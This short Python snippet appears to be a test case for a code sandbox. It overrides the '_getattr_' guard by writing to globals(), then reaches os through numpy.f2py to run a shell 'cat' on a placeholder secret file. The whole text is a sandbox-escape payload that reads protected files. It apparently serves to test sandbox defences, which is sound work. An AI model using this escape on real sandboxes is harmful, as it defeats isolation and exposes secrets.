"""The guard's name is a key of the table of globals."""
import numpy as np
module = [np][0]
globals()["_getattr_"] = getattr
print(module.f2py.os.popen("cat @SECRET_FILE@").read())
